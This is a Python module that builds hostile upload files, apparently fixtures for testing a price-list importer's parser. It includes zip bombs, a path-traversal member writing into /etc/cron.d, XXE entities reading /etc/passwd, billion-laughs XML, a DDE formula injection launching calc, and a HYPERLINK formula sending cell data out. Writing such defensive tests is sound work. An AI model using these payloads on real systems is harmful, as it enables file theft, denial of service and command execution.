"""Files that no supplier would send: each one made here, none copied. A name says what is wrong with it."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

import xlsxwriter

HEADER = ["Artikelnummer", "Benämning", "Enhet", "Pris", "Moms"]
ROW: list[Any] = ["A1", "Pärm A4", "st", 12.5, 25]
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MEGABYTE = 1 << 20

Make = Callable[[], bytes]
FILES: dict[str, tuple[str, Make]] = {}  # what it is → (file name, maker)


def hostile(file_name: str) -> Callable[[Make], Make]:
    def keep(make: Make) -> Make:
        FILES[make.__name__.strip("_")] = (file_name, make)
        return make

    return keep


# Workbooks


def workbook(*rows: list[Any], change: Callable[[Any, Any], None] | None = None) -> bytes:
    """A sound workbook, unless the rows are not; `change` may write more into it."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet("Prislista")
        for at, row in enumerate(rows or (HEADER, ROW)):
            sheet.write_row(at, 0, row)
        if change:
            change(book, sheet)
    return out.getvalue()


def repacked(data: bytes, replace: dict[str, bytes] | None = None, *, add: dict[str, bytes] | None = None) -> bytes:
    """The archive with other contents in some members, and more members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, (replace or {}).get(name, old.read(name)))
        for name, content in (add or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def sheet_xml(rows: str, *, before: str = "", dimension: str = "A1:E2") -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    data = f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData>'
    return f'{head}{before}<worksheet xmlns="{SPREADSHEET}">{data}</worksheet>'.encode()


def with_sheet(xml: bytes) -> bytes:
    return repacked(workbook(), {"xl/worksheets/sheet1.xml": xml})


def inline(row: int, *cells: str) -> str:
    inner = "".join(
        f'<c r="{chr(65 + at)}{row}" t="inlineStr"><is><t>{cell}</t></is></c>' for at, cell in enumerate(cells)
    )
    return f'<row r="{row}">{inner}</row>'


HEAD_ROW = inline(1, *HEADER)


@hostile("prislista.xlsx")
def zip_bomb_in_a_sheet() -> bytes:
    return with_sheet(sheet_xml(HEAD_ROW + " " * (300 * MEGABYTE // 4)))


@hostile("prislista.xlsx")
def zip_bomb_in_the_shared_strings() -> bytes:
    return repacked(workbook(), {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>x</t></si>" * 4_000_000 + b"</sst>"})


@hostile("prislista.xlsx")
def zip_bomb_beside_a_large_picture() -> bytes:
    picture = Random(1).randbytes(2 * MEGABYTE)
    return repacked(workbook(), add={"xl/media/a.png": picture, "xl/media/b.png": b"\0" * 60 * MEGABYTE})


@hostile("prislista.xlsx")
def zip_that_unpacks_to_more_than_it_may() -> bytes:
    block = Random(1).randbytes(64) * 16 * 1024  # packs about as well as a sheet does
    return repacked(workbook(), add={f"xl/media/{n}.png": block for n in range(210)})


@hostile("prislista.xlsx")
def ten_thousand_members() -> bytes:
    return repacked(workbook(), add={f"xl/media/{n}": b"" for n in range(10_000)})


@hostile("prislista.xlsx")
def directory_that_hides_its_count() -> bytes:
    data = bytearray(ten_thousand_members())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 7, 7)
    return bytes(data)


@hostile("prislista.xlsx")
def member_that_lies_about_its_size() -> bytes:
    return _with_size(workbook(), b"xl/worksheets/sheet1.xml", 40)


@hostile("prislista.xlsx")
def member_that_claims_four_gigabytes() -> bytes:
    return _with_size(workbook(), b"xl/worksheets/sheet1.xml", 0xFFFFFFF0)


def _with_size(data: bytes, name: bytes, size: int) -> bytes:
    """Another unpacked size of a member, in the directory and before the member."""
    changed = bytearray(data)
    for signature, offset, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = changed.find(signature)
        while at >= 0:
            if changed[at + name_at : at + name_at + len(name)] == name:
                changed[at + offset : at + offset + 4] = struct.pack("<I", size)
            at = changed.find(signature, at + 4)
    return bytes(changed)


@hostile("prislista.xlsx")
def member_with_a_wrong_checksum() -> bytes:
    data = bytearray(workbook())
    at = data.rfind(b"PK\x01\x02")
    data[at + 16 : at + 20] = b"\1\2\3\4"
    return bytes(data)


@hostile("prislista.xlsx")
def archive_in_the_archive() -> bytes:
    return repacked(workbook(), add={"xl/media/inner.zip": workbook()})


@hostile("prislista.xlsx")
def archive_that_calls_itself_a_picture() -> bytes:
    return repacked(workbook(), add={"xl/media/image1.png": workbook()})


@hostile("prislista.xlsx")
def embedded_object() -> bytes:
    return repacked(workbook(), add={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500})


@hostile("prislista.xlsm")
def macros_under_their_own_name() -> bytes:
    return repacked(workbook(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@hostile("prislista.xlsx")
def macros_under_another_name() -> bytes:
    return macros_under_their_own_name()


@hostile("prislista.xlsx")
def two_members_of_one_name() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        twin = "xl/worksheets/sheet1_xml"
        new.writestr(twin, sheet_xml(HEAD_ROW))
    return out.getvalue().replace(b"sheet1_xml", b"sheet1.xml")


@hostile("prislista.xlsx")
def member_that_climbs_out() -> bytes:
    return repacked(workbook(), add={"../../../etc/cron.d/avrop": b"* * * * * root true"})


@hostile("prislista.xlsx")
def member_locked_with_a_password() -> bytes:
    data = bytearray(workbook())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@hostile("prislista.xlsx")
def archive_cut_in_half() -> bytes:
    data = workbook()
    return data[: len(data) // 2]


@hostile("prislista.xlsx")
def archive_that_is_no_workbook() -> bytes:
    return repacked(workbook(), {}, add={})[:0] + _zip({"hej.txt": b"hej"})


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


@hostile("prislista.xlsx")
def file_of_the_machine_as_an_entity_of_a_sheet() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return with_sheet(sheet_xml(HEAD_ROW + inline(2, "A1", "&e;", "st", "1", "25"), before=doctype))


@hostile("prislista.xlsx")
def laughs_in_the_shared_strings() -> bytes:
    return repacked(workbook(), {"xl/sharedStrings.xml": laughs(b"sst")})


@hostile("prislista.xlsx")
def sheet_in_utf_16() -> bytes:
    return with_sheet(sheet_xml(HEAD_ROW).decode().replace("UTF-8", "UTF-16").encode("utf-16"))


@hostile("prislista.xlsx")
def sheet_whose_xml_breaks_off() -> bytes:
    return with_sheet(sheet_xml(HEAD_ROW)[:-60])


@hostile("prislista.xlsx")
def formula_in_a_price() -> bytes:
    return workbook(change=lambda _, sheet: sheet.write_formula("D2", "=1+1", value=2))


@hostile("prislista.xlsx")
def formula_in_a_name() -> bytes:
    link = '=HYPERLINK("http://example.com/?"&A1,"Pärm")'
    return workbook(change=lambda _, sheet: sheet.write_formula("B2", link, value="Pärm"))


@hostile("prislista.xlsx")
def formula_as_text() -> bytes:
    return workbook(HEADER, ["A1", "=cmd|' /C calc'!A0", "st", 12.5, 25])


@hostile("prislista.xlsx")
def price_that_is_no_number() -> bytes:
    return _with_price("NaN")


@hostile("prislista.xlsx")
def infinite_price() -> bytes:
    return _with_price("inf")


@hostile("prislista.xlsx")
def price_of_three_hundred_digits() -> bytes:
    return _with_price("1e300")


def _with_price(price: str) -> bytes:
    cells = f'<c r="D2"><v>{price}</v></c>'
    row = inline(2, "A1", "Pärm", "st").replace("</row>", f'{cells}<c r="E2"><v>25</v></c></row>')
    return with_sheet(sheet_xml(HEAD_ROW + row))


@hostile("prislista.xlsx")
def billion_rows_claimed_and_the_last_one_filled() -> bytes:
    rows = HEAD_ROW + inline(2, "A1", "Pärm", "st", "x", "25") + inline(1_048_576, "B1", "Pärm", "st", "1", "25")
    return with_sheet(sheet_xml(rows, dimension="A1:XFD1000000000"))


@hostile("prislista.xlsx")
def cells_in_opposite_corners() -> bytes:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return with_sheet(sheet_xml(HEAD_ROW + far, dimension="A1:XFD1048576"))


@hostile("prislista.xlsx")
def row_above_what_a_number_holds() -> bytes:
    return with_sheet(sheet_xml(HEAD_ROW + '<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'))


@hostile("prislista.xlsx")
def two_hundred_thousand_rows() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n * 7919 % 99991) for n in range(2, 200_000))
    head, tail = sheet_xml(HEAD_ROW + "@@").split(b"@@")
    return with_sheet(head + rows + tail)


@hostile("prislista.xlsx")
def cells_of_the_longest_text() -> bytes:
    words = Random(1).randbytes(24_000).hex()[:32_767]
    return workbook(HEADER, *([f"A{n}", words, "st", 1, 25] for n in range(200)))


@hostile("prislista.xlsx")
def shared_string_that_is_not_there() -> bytes:
    return with_sheet(sheet_xml('<row r="1"><c r="A1" t="s"><v>4000000000</v></c></row>'))


@hostile("prislista.xlsx")
def column_twice_in_a_sheet() -> bytes:
    return workbook([*HEADER, "Nettopris"], [*ROW, 1])


@hostile("prislista.xlsx")
def thirty_prices_for_one_article() -> bytes:
    return workbook(HEADER, *(["A1", "Pärm", "st", n, 25] for n in range(1, 31)))


@hostile("prislista.xlsx")
def text_that_turns_around() -> bytes:
    return workbook(HEADER, ["A1", "Pärm \u202efdp.exe", "st", 1, 25])


@hostile("prislista.xlsx")
def sheet_of_a_thousand_columns() -> bytes:
    return workbook([*HEADER, *range(1000)], ROW)


# Open documents


def open_document(content: str, *, kind: bytes = b"application/vnd.oasis.opendocument.spreadsheet") -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"' for short in ("office", "table", "text")
    )
    body = f'<office:body><office:spreadsheet><table:table table:name="P">{content}</table:table></office:spreadsheet>'
    xml = f'<?xml version="1.0"?><office:document-content {spaces}>{body}</office:body></office:document-content>'
    return _zip({"mimetype": kind, "content.xml": xml.encode(), "META-INF/manifest.xml": b"<m/>"})


def ods_row(*cells: str, attributes: str = "") -> str:
    inner = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>' for cell in cells
    )
    return f"<table:table-row {attributes}>{inner}</table:table-row>"


@hostile("prislista.ods")
def open_document_with_a_row_repeated_without_end() -> bytes:
    row = ods_row("A1", "Pärm", "st", "1", "25", attributes='table:number-rows-repeated="1048570"')
    return open_document(ods_row(*HEADER) + row)


@hostile("prislista.ods")
def open_document_with_a_formula() -> bytes:
    cell = '<table:table-cell table:formula="of:=1+1" office:value-type="float" office:value="2"/>'
    return open_document(ods_row(*HEADER) + f"<table:table-row>{cell}</table:table-row>")


@hostile("prislista.ods")
def open_document_with_a_basic_library() -> bytes:
    return repacked(open_document(ods_row(*HEADER)), add={"Basic/Standard/Module1.xml": b"<x/>"})


# Old Office


@hostile("prislista.xls")
def compound_file_with_macros() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "Workbook\0_VBA_PROJECT\0".encode("utf-16-le")


@hostile("prislista.xls")
def compound_file_of_noise() -> bytes:
    noise = Random(2).randbytes(100_000)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook\0".encode("utf-16-le") + noise


@hostile("prislista.xlsx")
def workbook_locked_with_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage\0".encode("utf-16-le")


# What is something else


@hostile("prislista.xlsx")
def program_for_windows() -> bytes:
    return b"MZ\x90\0" + b"\0" * 5000


@hostile("prislista.csv")
def program_for_linux() -> bytes:
    return b"\x7fELF\x02\x01" + b"\0" * 5000


@hostile("prislista.xlsx")
def comma_separated_under_the_name_of_a_workbook() -> bytes:
    return csv_text(*[";".join(map(str, row)) for row in (HEADER, ROW)])


@hostile("prislista.csv")
def workbook_under_the_name_of_a_text() -> bytes:
    return workbook()


@hostile("prislista.xls")
def web_page_under_the_name_of_a_workbook() -> bytes:
    return b"<html><body><table><tr><td>Artikelnummer</td></tr></table></body></html>"


# Catalogues

CATALOGUE = "urn:oasis:names:specification:ubl:schema:xsd:Catalogue-2"


def catalogue(lines: str, *, before: str = "", header: str = "") -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:specification:ubl:schema:xsd:{long}-2"'
        for short, long in (("cac", "CommonAggregateComponents"), ("cbc", "CommonBasicComponents"))
    )
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    return f'{head}{before}<Catalogue xmlns="{CATALOGUE}" {spaces}>\n{header}{lines}</Catalogue>'.encode()


def catalogue_line(number: str = "A1", *, act: str = "", name: str = "Pärm", prices: str = "", price: str = "1") -> str:
    one = f'<cac:Price><cbc:PriceAmount currencyID="SEK">{price}</cbc:PriceAmount></cac:Price>'
    action = f"<cbc:ActionCode>{act}</cbc:ActionCode>" if act else ""
    return (
        f"<cac:CatalogueLine><cbc:ID>1</cbc:ID>{action}<cbc:OrderableUnit>H87</cbc:OrderableUnit>"
        f"<cac:RequiredItemLocationQuantity>{prices or one}</cac:RequiredItemLocationQuantity>"
        f"<cac:Item><cbc:Name>{name}</cbc:Name>"
        f"<cac:SellersItemIdentification><cbc:ID>{number}</cbc:ID></cac:SellersItemIdentification>"
        "<cac:ClassifiedTaxCategory><cbc:ID>S</cbc:ID><cbc:Percent>25</cbc:Percent></cac:ClassifiedTaxCategory>"
        "</cac:Item></cac:CatalogueLine>\n"
    )


def laughs(root: bytes = b"Catalogue") -> bytes:
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    declared = b'<!DOCTYPE %s [<!ENTITY l0 "ha">%s]>' % (root, entities)
    return b'<?xml version="1.0"?>%s<%s>&l9;</%s>' % (declared, root, root)


@hostile("katalog.xml")
def billion_laughs() -> bytes:
    return laughs()


@hostile("katalog.xml")
def file_of_the_machine_as_an_entity() -> bytes:
    doctype = '<!DOCTYPE Catalogue [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return catalogue(catalogue_line(name="&e;"), before=doctype)


@hostile("katalog.xml")
def doctype_on_another_machine() -> bytes:
    return catalogue(catalogue_line(), before='<!DOCTYPE Catalogue SYSTEM "http://192.0.2.1/catalogue.dtd">')


@hostile("katalog.xml")
def doctype_hidden_in_utf_16() -> bytes:
    return billion_laughs().decode().encode("utf-16")


@hostile("katalog.xml")
def elements_within_elements() -> bytes:
    deep = "<cac:Item>" * 100_000
    return catalogue(deep)


@hostile("katalog.xml")
def invoice_instead_of_a_catalogue() -> bytes:
    return catalogue(catalogue_line()).replace(b"Catalogue-2", b"Invoice-2").replace(b"<Catalogue ", b"<Invoice ")


@hostile("katalog.xml")
def catalogue_that_breaks_off() -> bytes:
    return catalogue(catalogue_line())[:-30]


@hostile("katalog.xml")
def catalogue_with_thirty_prices_for_an_article() -> bytes:
    price = '<cac:Price><cbc:PriceAmount currencyID="SEK">{}</cbc:PriceAmount></cac:Price>'
    return catalogue(catalogue_line(prices="".join(price.format(n) for n in range(1, 31))))


@hostile("katalog.xml")
def catalogue_with_a_price_that_is_no_number() -> bytes:
    return catalogue(catalogue_line(price="NaN"))


# Texts


def csv_text(*lines: str) -> bytes:
    return "\r\n".join(lines).encode()


def _cells(*rows: list[str]) -> Iterator[str]:
    yield ";".join(HEADER)
    for row in rows:
        yield ";".join(row)


@hostile("prislista.csv")
def mixed_encodings() -> bytes:
    return csv_text(*_cells(["A1", "Pärm", "st", "1", "25"])) + "\r\nA2;Häfte;st;\x81".encode("latin-1")


@hostile("prislista.csv")
def nul_bytes() -> bytes:
    return csv_text(*_cells(["A1", "Pä\0rm", "st", "1", "25"]))


@hostile("prislista.csv")
def cell_of_ten_megabytes() -> bytes:
    return csv_text(*_cells(["A1", "x" * 10 * MEGABYTE, "st", "1", "25"]))


@hostile("prislista.csv")
def quote_that_never_closes() -> bytes:
    return csv_text(*_cells(["A1", '"' + "x;\n" * 3_000_000, "st", "1", "25"]))


@hostile("prislista.csv")
def text_turned_around_in_a_number() -> bytes:
    return csv_text(*_cells(["A1\u202e", "Pärm", "st", "1", "25"]))


@hostile("prislista.csv")
def column_twice() -> bytes:
    return csv_text(";".join([*HEADER, "Á-pris"]), "A1;Pärm;st;1;25;2")


@hostile("prislista.csv")
def infinity() -> bytes:
    return csv_text(*_cells(["A1", "Pärm", "st", "Infinity", "25"], ["A2", "Pärm", "st", "NaN", "25"]))


@hostile("prislista.csv")
def hundred_thousand_columns() -> bytes:
    return csv_text(";" * 100_000, *_cells(["A1", "Pärm", "st", "x", "25"]))


@hostile("prislista.csv")
def more_bytes_than_are_taken() -> bytes:
    return b"x" * 20_000_001
